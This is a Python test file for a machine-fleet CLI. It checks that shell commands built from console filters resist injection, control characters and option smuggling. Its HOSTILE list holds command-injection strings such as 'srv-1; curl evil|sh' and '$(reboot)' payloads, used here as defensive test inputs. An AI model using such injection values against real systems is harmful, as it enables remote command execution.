import inspect
from urllib.parse import parse_qsl

import pytest
import typer

from shepherdctl.console.pages.fleet import STATES
from shepherdctl.console.pages.machines import FILTERS, Query
from shepherdctl.descriptions import commands
from shepherdctl.options import REASON_TO_WRITE, reason_text
from shepherdctl.selection import Selection
from tests.support.console import parsed, words

WRITE = ("machine retry", "machine unquarantine", "machine reboot", "machine release")
HOSTILE = ["srv-1; curl evil|sh", "$(reboot)`reboot`${HOME}", "'; reboot; '", '"; reboot; "', "a\\", "\\'; reboot #"]
HOSTILE += ["--yes", "-h", "--", "!!", "*", "~", "ärger \U0001f525", "two  spaces"]


def shown(address: str) -> list[str]:
    query = Query.parse(parse_qsl(address))
    found = commands.of_search(query.search, query.filters, "created" if query.newest_first else None)
    return [line for line, _ in found]


@pytest.mark.parametrize(
    "query",
    [
        *([("state", state)] for state in STATES),
        [("state", "unhealthy"), ("state", "quarantined"), ("location", "rack03"), ("location", "rack 4")],
        [("provider", "static"), ("paused", "no")],
        [("paused", "yes")],
        [("text", "SN4711"), ("cause", "ssh-timed-out")],
        [("heartbeat_older", "10m"), ("heartbeat_younger", "2h"), ("state_older", "1h"), ("state_younger", "366d")],
        *([(name, text)] for name in ("location", "text") for text in HOSTILE),
    ],
    ids=str,
)
def test_a_command_selects_what_the_filters_show(query: list[tuple[str, str]]) -> None:
    """Read by a shell and by the command line; a name cannot end the command, nor become an option of it."""
    expected = Query.parse(query)
    lines = commands.of_search(expected.search, expected.filters, None)
    assert len(lines) > 1
    for line, _ in lines:
        _, given = parsed(line.replace(REASON_TO_WRITE, "why"))
        selection = Selection.of(**{name: given.get(name) for name in inspect.signature(Selection.of).parameters})
        assert (selection.names, selection.filters) == ((), expected.search)
        assert not given.get("yes")


def test_every_filter_of_the_page_is_an_option() -> None:
    one = {"state": "running", "provider": "static", "paused": "no", "cause": "unexpected"}
    one |= {"location": "x", "text": "x"}
    line = shown("&".join(f"{name}={one.get(name, '1h')}" for name in FILTERS))[0]
    assert len(words(line)) == 2 + 2 * len(FILTERS) - 1


@pytest.mark.parametrize("character", ["\n", "\r", "\t", "\x03", "\x1b[201~", "\x7f", "\u202e", "\u2028"])
def test_what_cannot_be_typed_is_in_no_command(character: str) -> None:
    """A terminal acts on control characters while they are pasted, before a shell sees its quotes."""
    query = Query.parse([("location", f"a{character}reboot"), ("state", "unhealthy")])
    assert commands.of_search(query.search, query.filters, None) == []


@pytest.mark.parametrize(
    ("address", "expected"),
    [
        ("", ["machine list", "pause"]),
        ("text=+", ["machine list", "pause"]),
        ("location=fra", ["machine list", "pause", *WRITE]),
        ("paused=yes", ["machine list", "resume", *WRITE]),
        ("state=creating", ["machine list", "pause"]),
        ("state=running&state=creating", ["machine list", "pause", "machine reboot", "machine release"]),
        ("state=needs_agent", ["machine list", "pause", "machine retry", "machine reboot", "machine release"]),
        ("state=unhealthy", ["machine list", "pause", "machine retry", "machine reboot", "machine release"]),
        ("state=quarantined", ["machine list", "pause", *WRITE[1:]]),
        ("provider=static", ["machine list", "pause", *WRITE]),
        ("provider=static&provider=ec2", ["machine list", "pause", *WRITE]),
        ("provider=static&provider=ec2&paused=no", ["machine list", "pause", *WRITE]),
    ],
)
def test_only_commands_that_make_sense_for_the_filters_are_shown(address: str, expected: list[str]) -> None:
    """What is in quarantine is taken out, what is paused resumed; nothing changes every machine but a pause."""
    assert [parsed(line.replace(REASON_TO_WRITE, "why"))[0] for line in shown(address)] == expected


def test_the_list_in_the_terminal_has_the_same_order() -> None:
    assert shown("sort=created&state=running")[0] == "shepherdctl machine list --state running --sort created"
    assert shown("")[1] == f"shepherdctl pause --all --reason '{REASON_TO_WRITE}'"


def test_a_command_that_was_pasted_as_it_is_changes_nothing() -> None:
    """Others read the reason: it has to be written first."""
    for line in shown("state=quarantined&location=fra")[1:]:
        with pytest.raises(typer.BadParameter, match="'…' is not a reason: say why"):
            parsed(line)
    assert reason_text("why …") == "why …"
